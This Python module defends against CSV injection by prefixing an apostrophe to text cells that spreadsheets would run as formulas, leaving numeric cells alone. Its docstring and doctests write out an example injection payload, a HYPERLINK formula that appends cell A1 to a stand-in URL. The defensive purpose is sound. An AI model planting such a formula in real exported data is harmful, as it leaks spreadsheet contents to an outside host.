"""Cells that a spreadsheet will not run: CSV written for people is opened in Excel or LibreOffice,
which take a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) as a formula. Text that came from annotators or from ingested metadata (a flag reason, a
title, an uploader, a platform) could otherwise carry ``=HYPERLINK("http://…"&A1,"open")`` into a
curator's sheet. Such a cell gets a leading apostrophe, the spreadsheet convention for "this is
text" (OWASP's advice for CSV injection).

Only text cells change: numbers stay numbers (a negative number is not a formula). Parquet and
JSON files are read by programs and keep the raw text; so should anything that reads our CSV
back by program, or it gets the apostrophe too.

>>> neutralise_cell('=HYPERLINK("http://x"&A1,"open")')
'\\'=HYPERLINK("http://x"&A1,"open")'
>>> [neutralise_cell(v) for v in ("-1", "a-b", -1.5, None, "\\tx")]
["'-1", 'a-b', -1.5, None, "'\\tx"]
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise_cell", "neutralise_frame"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are :func:`neutralise_cell`-ed (numeric columns as they are).

    >>> neutralise_frame(pd.DataFrame({"reason": ["@SUM(1)", "ok"], "n": [-1, 2]})).to_dict("list")
    {'reason': ["'@SUM(1)", 'ok'], 'n': [-1, 2]}
    """
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if values.dtype == object or pd.api.types.is_string_dtype(values.dtype):
            mask = values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_STARTS)).astype(bool)
            if mask.any():
                out[column] = values.astype(object).where(~mask, "'" + values[mask].astype(str))
    return out
